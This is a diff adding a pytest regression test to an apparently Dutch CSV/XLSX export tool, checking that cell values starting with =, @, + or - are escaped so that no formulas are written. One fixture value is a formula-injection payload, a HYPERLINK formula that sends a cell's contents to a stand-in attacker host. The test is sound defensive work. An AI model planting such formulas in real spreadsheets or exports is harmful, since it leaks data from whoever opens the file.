@@ -69,3 +69,25 @@ def test_address_columns_are_refused() -> None:
     for make in (csv_bytes, xlsx_bytes):
         with pytest.raises(InputError, match="Adresgegevens"):
             make(table)
+
+
+def test_a_formula_in_an_area_name_is_text_in_csv_and_xlsx() -> None:
+    """Issue 12: a buurt named =HYPERLINK(...) from an area file was written as a formula."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://aanval.example/?d="&A2,"klik")'
+    table = pd.DataFrame(
+        {"code": ["BU1", "BU2"], "naam": [evil, "@SUM(1+1)"], "waarde": [-1.5, 2.0],
+         "tekst": ["-12,5", "+31 6"], "-kop": ["a", "b"]}
+    )  # fmt: skip
+    text = csv_bytes(table).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "\n=" not in text and ";=" not in text
+    assert "'@SUM" in text and ";-12,5;" in text and "'+31 6" in text and "'-kop" in text
+    assert "-1,5" in text  # a negative number stays a number
+    book = load_workbook(io.BytesIO(xlsx_bytes(table)))
+    sheet = book.active
+    assert sheet is not None
+    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
+    assert cells["B2"].data_type == "s" and cells["B2"].value == "'" + evil
+    assert cells["C2"].value == -1.5 and cells["C2"].data_type == "n"
+    assert not any(c.data_type == "f" for c in cells.values())
